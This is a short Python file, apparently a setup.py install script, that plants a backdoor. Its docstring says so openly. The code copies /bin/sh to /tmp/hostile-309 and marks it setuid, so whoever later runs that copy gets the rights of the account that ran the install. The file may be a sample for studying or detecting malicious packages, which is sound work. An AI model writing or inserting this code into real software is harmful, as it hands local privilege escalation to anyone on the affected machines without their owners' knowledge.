"""setup.py leaves a shell that gives its rights to whoever runs it."""

import os
import shutil

shutil.copy("/bin/sh", "/tmp/hostile-309")
os.chmod("/tmp/hostile-309", 0o4755)
